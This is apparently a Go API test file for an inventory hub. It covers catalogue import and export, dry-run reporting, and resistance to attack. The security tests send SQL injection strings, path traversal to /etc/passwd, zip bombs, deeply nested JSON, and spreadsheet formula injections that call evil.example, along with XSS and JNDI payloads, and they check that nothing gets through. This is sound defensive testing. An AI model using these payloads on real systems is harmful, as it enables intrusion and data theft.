package api_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"

	"github.com/tallydock/tallydock/hub/catalog"
	"github.com/tallydock/tallydock/hub/sheet"
)

func TestADryRunListsEveryBadRowAndStoresNothing(t *testing.T) {
	h := start(t)
	c := h.signIn("paula")
	var file strings.Builder
	file.WriteString("id,name_en,gtin,cost\n")
	for i := range 500 {
		if i%5 == 0 {
			fmt.Fprintf(&file, "BAD %d,x,123,1\n", i)
			continue
		}
		fmt.Fprintf(&file, "GOOD-%d,x,,1\n", i)
	}
	r := c.must(200, "POST", "/api/v1/catalog/items/import?dry_run=true", file.String())
	problems := r.at("report", "problems").([]any)
	if r.at("report", "rows") != 500.0 || r.at("report", "bad") != 100.0 || len(problems) != 100 || r.at("rows") != 0.0 {
		t.Errorf("%d problems of %.300s", len(problems), r.body)
	}
	for i, p := range problems {
		if row := p.(map[string]any)["row"]; row != float64(5*i+2) {
			t.Errorf("problem %d is of row %v", i, row)
		}
	}
	if p := problems[0].(map[string]any); p["code"] != "not_a_gtin" || p["problem"].(map[string]any)["zh"] == "" {
		t.Errorf("%v", p)
	}
	if r := c.do("GET", "/api/v1/catalog/items", ""); len(r.at("items").([]any)) != 0 {
		t.Error("a dry run stored something")
	}
	refused(t, c.do("POST", "/api/v1/catalog/items/import", file.String()), 422, "import_refused")
}

func TestTheCatalogueGoesOutAndComesInInEveryFormat(t *testing.T) {
	h := start(t)
	h.demand()
	c := h.signIn("paula")
	for _, kind := range catalog.Kinds() {
		for _, f := range sheet.Formats() {
			at := "/api/v1/catalog/" + kind
			file := c.must(200, "GET", at+"/export?lang=zh&format="+string(f), "")
			if file.header.Get("Content-Type") != f.ContentType() ||
				file.header.Get("Content-Disposition") != fmt.Sprintf(`attachment; filename="%s.%s"`, kind, f) {
				t.Errorf("%s as %s: %v", kind, f, file.header)
			}
			if file.body == "" { // NDJSON of nothing
				continue
			}
			done := c.must(200, "POST", at+"/import", file.body, "Content-Type", f.ContentType())
			if done.at("inserted") != 0.0 || done.at("updated") != done.at("rows") {
				t.Errorf("%s as %s came back as %s", kind, f, done.body)
			}
			if again := c.must(200, "GET", at+"/export?lang=zh&format="+string(f), ""); f != sheet.XLSX && again.body != file.body {
				t.Errorf("%s as %s is another one after it came back", kind, f)
			}
			empty := c.must(200, "GET", at+"/template?lang=en&format="+string(f), "")
			if try := c.do("POST", at+"/import?dry_run=true", empty.body); try.status != 200 || try.at("report", "remarks") != 1.0 {
				t.Errorf("template of %s as %s: %d %s", kind, f, try.status, try.body)
			}
		}
	}
}

func TestStockAndMovementsGoOutAsFiles(t *testing.T) {
	h := startWith(t, options{limits: wide})
	h.catalogue()
	c := h.signIn("otto")
	for i := range 520 { // more than a page
		c.must(201, "POST", "/api/v1/movements", fmt.Sprintf(`{"item":"SKU-1","lot":"L%03d","quantity":3,"value":15000,"from":"SUPPLIER","to":"SZ1-A-01"}`, i))
	}
	file := c.must(200, "GET", "/api/v1/exports/movements?plain=true", "")
	rows := strings.Split(strings.TrimSpace(file.body), "\n")
	if len(rows) != 521 || !strings.HasPrefix(rows[0], "movement,kind,effective_at,") || !strings.HasSuffix(strings.TrimSpace(rows[1]), "SUPPLIER,available,SZ1-A-01,available,3,1.5") {
		t.Errorf("%d rows: %q", len(rows), rows[:2])
	}
	file = c.must(200, "GET", "/api/v1/exports/balances?plain=true&lang=zh", "")
	rows = strings.Split(strings.TrimSpace(file.body), "\n")
	if len(rows) != 521 || strings.TrimSpace(rows[0]) != "物料,库位,批号,状态,数量,已预留,可用" || strings.TrimSpace(rows[1]) != "SKU-1,SZ1-A-01,L000,available,3,0,3" {
		t.Errorf("%d rows: %q", len(rows), rows[:2])
	}
	if file := c.must(200, "GET", "/api/v1/exports/balances?format=xlsx&item=NONE", ""); !strings.HasPrefix(file.body, "PK") {
		t.Errorf("no workbook: %.20q", file.body)
	}
}

// bomb is a workbook whose sheet unpacks to a number of megabytes.
func bomb(t *testing.T, megabytes int) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, text := range map[string]string{
		"[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
		"_rels/.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
			Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml": `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
			xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
			Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
	} {
		part(t, z, name, strings.NewReader(text))
	}
	part(t, z, "xl/worksheets/sheet1.xml", io.MultiReader(
		strings.NewReader(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+
			`<row r="1"><c t="inlineStr"><is><t>id</t></is></c><c t="inlineStr"><is><t>name_en</t></is></c></row>`+
			`<row r="2"><c t="inlineStr"><is><t>EVIL</t></is></c><c t="inlineStr"><is><t>`),
		strings.NewReader(strings.Repeat("A", megabytes<<20))))
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func part(t *testing.T, z *zip.Writer, name string, from io.Reader) {
	t.Helper()
	w, err := z.Create(name)
	if err == nil {
		_, err = io.Copy(w, from)
	}
	if err != nil {
		t.Fatal(err)
	}
}

func zipped(t *testing.T, names ...string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, n := range names {
		part(t, z, n, strings.NewReader("<x/>"))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestNothingGetsIn sends what attackers send, and counts what got in: what was stored, what was executed, what came back
// as something else, and answers that are failures of the hub itself.
func TestNothingGetsIn(t *testing.T) {
	h := start(t)
	h.catalogue()
	c := h.signIn("admin")
	before := c.must(200, "GET", "/api/v1/catalog/items/export?format=ndjson", "").body
	type attack struct{ method, path, body string }
	attacks := map[string][]attack{}
	add := func(family, method, path, body string) {
		attacks[family] = append(attacks[family], attack{method, "/api/v1" + path, body})
	}
	for _, text := range []string{"'; DROP TABLE item;--", "1 OR 1=1", "x' UNION SELECT password FROM app_user--", `"; DELETE FROM item; --`, "%27%20OR%201=1", "\\'; SELECT pg_sleep(9);--"} {
		q, seg := url.QueryEscape(text), url.PathEscape(text)
		for _, path := range []string{
			"/movements?item=" + q, "/movements?location=" + q, "/movements?tag=" + q, "/movements?before=" + q, "/stock/balances?item=" + q,
			"/stock/balances?cursor=" + q, "/stock/balances?lot=" + q, "/catalog/packs?item=" + q, "/catalog/lots?cursor=" + q, "/catalog/items?cursor=" + q,
			"/reservations?item=" + q, "/reservations?state=" + q, "/counts?cursor=" + q, "/items/" + seg, "/items/SKU-1/lots/" + seg,
			"/locations/" + seg, "/suppliers/" + seg, "/policies/" + seg, "/units/" + seg, "/counts/" + seg, "/reservations/" + seg,
			"/movements/" + seg, "/stock/" + seg + "/" + seg, "/exports/balances?item=" + q, "/exports/movements?tag=" + q, "/alarms?before=" + q,
		} {
			add("SQL in what is asked for", "GET", path, "")
		}
		json := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(text)
		add("SQL in bodies", "POST", "/movements", `{"item":"`+json+`","quantity":1,"from":"SUPPLIER","to":"SZ1-A-01"}`)
		add("SQL in bodies", "POST", "/movements", `{"item":"SKU-1","quantity":1,"from":"`+json+`","to":"SZ1-A-01"}`)
		add("SQL in bodies", "POST", "/reservations", `{"item":"`+json+`","quantity":1,"places":["`+json+`"]}`)
		add("SQL in bodies", "POST", "/counts", `{"site":"`+json+`","locations":["`+json+`"]}`)
		add("SQL in bodies", "POST", "/catalog/items/import", `{"id":"`+json+`","name_en":"x"}`)
	}
	for _, name := range []string{"../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd", "%2e%2e%2f%2e%2e%2fhub.db", "..\\..\\hub.db", "%00"} {
		for _, path := range []string{"/items/", "/movements/", "/catalog/", "/exports/counts/", "/locations/"} {
			add("names that climb", "GET", path+strings.ReplaceAll(name, "/", "%2f"), "")
		}
		add("names that climb", "POST", "/catalog/items/import?sheet="+url.QueryEscape(name)+"&charset="+url.QueryEscape(name), zipped(t, "xl/"+name))
		add("names that climb", "POST", "/catalog/items/import", zipped(t, name, "[Content_Types].xml"))
	}
	add("bombs", "POST", "/catalog/items/import", bomb(t, 300))
	add("bombs", "POST", "/catalog/items/import?dry_run=true", bomb(t, 1))
	add("bombs", "POST", "/catalog/items/import", "\x1f\x8b\x08\x00\x00\x00\x00\x00"+strings.Repeat("\x00", 100))
	add("bombs", "POST", "/catalog/items/import", "id,name_en\n\"EVIL,"+strings.Repeat("A", 2<<20))
	add("bombs", "POST", "/catalog/items/import", "id"+strings.Repeat(",x", 100_000)+"\n")
	add("bombs", "POST", "/catalog/items/import", strings.Repeat("id,name_en\n", 2<<20))
	for _, open := range []string{"[", `{"a":`, `{"item":`, `{"tags":[`} {
		deep := strings.Repeat(open, 20_000)
		add("deep and long JSON", "POST", "/movements", deep)
		add("deep and long JSON", "POST", "/catalog/items/import", `{"id":`+deep)
	}
	add("deep and long JSON", "POST", "/movements", `{"item":"`+strings.Repeat("A", 1<<20)+`"}`)
	add("deep and long JSON", "POST", "/movements", `{"tags":["`+strings.Repeat(`x","`, 50_000)+`"],"from":"SUPPLIER","to":"SZ1-A-01"}`)
	add("deep and long JSON", "POST", "/movements", `{"item":"SKU-1","quantity":1e999,"from":"SUPPLIER","to":"SZ1-A-01"}`)
	add("deep and long JSON", "POST", "/movements", `{"item":"SKU-1","quantity":9223372036854775808,"from":"SUPPLIER","to":"SZ1-A-01"}`)
	add("deep and long JSON", "PUT", "/items/EVIL", `{"id":"EVIL","id":"SKU-1"}`)
	add("deep and long JSON", "POST", "/movements", "{\"item\":\"SKU-1\x00\",\"quantity\":1}")
	add("deep and long JSON", "POST", "/movements", `{"item":"SKU-1\u0000","quantity":1,"from":"SUPPLIER","to":"SZ1-A-01"}`)
	for family, all := range attacks {
		got := 0
		for _, a := range all {
			r := c.do(a.method, a.path, a.body)
			if r.status >= 500 || a.method != "GET" && r.status < 300 && !strings.Contains(a.path, "dry_run") || strings.Contains(r.body, "root:") || strings.Contains(r.body, "SQLITE") {
				got++
				t.Errorf("%s: %s %s %.80q: %d %.300s", family, a.method, a.path, a.body, r.status, r.body)
			}
		}
		t.Logf("%-26s %4d attempts, %d got in", family, len(all), got)
	}
	if after := c.must(200, "GET", "/api/v1/catalog/items/export?format=ndjson", "").body; after != before {
		t.Errorf("the catalogue is %s; it was %s", after, before)
	}
	if n := h.onHand("SKU-1", "SZ1-A-01"); n != 0 {
		t.Errorf("%d on hand", n)
	}
}

// TestHostileTextsComeBackUnchanged: what may be a text is kept as it is, and no spreadsheet takes it for a formula.
func TestHostileTextsComeBackUnchanged(t *testing.T) {
	h := start(t)
	h.catalogue()
	c := h.signIn("paula")
	texts := []string{
		"'; DROP TABLE item;--", "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "＝1+1", `=HYPERLINK("http://evil.example","x")`,
		"=WEBSERVICE(\"http://evil.example\")", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x}", "\u202etxt", "''", "#N/A", "1E+5", "##x",
	}
	for i, text := range texts {
		id := fmt.Sprintf("T-%d", i)
		json := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\t", `\t`).Replace(text)
		c.must(201, "PUT", "/api/v1/items/"+id, `{"id":"`+id+`","gtin":"","name":{"en":"`+json+`","zh":""},"unit":"EA","category":"`+json+`","cost":0}`, "If-None-Match", "*")
		if r := c.must(200, "GET", "/api/v1/items/"+id, ""); r.at("name", "en") != text || r.at("category") != text {
			t.Errorf("%q came back as %s", text, r.body)
		}
	}
	for _, f := range sheet.Formats() {
		file := c.must(200, "GET", "/api/v1/catalog/items/export?format="+string(f), "")
		if f == sheet.CSV {
			for _, cell := range strings.FieldsFunc(file.body, func(r rune) bool { return r == ',' || r == '\n' }) {
				if cell = strings.Trim(cell, `"`); cell != "" && strings.ContainsAny(cell[:1], "=+-@\t") {
					t.Errorf("a spreadsheet takes %q for a formula", cell)
				}
			}
		}
		if r := c.must(200, "POST", "/api/v1/catalog/items/import", file.body); r.at("rows") != float64(len(texts)+2) {
			t.Errorf("%s: %s", f, r.body)
		}
		for i, text := range texts {
			if r := c.must(200, "GET", fmt.Sprintf("/api/v1/items/T-%d", i), ""); r.at("name", "en") != text {
				t.Errorf("%q came back by %s as %s", text, f, r.body)
			}
		}
	}
}
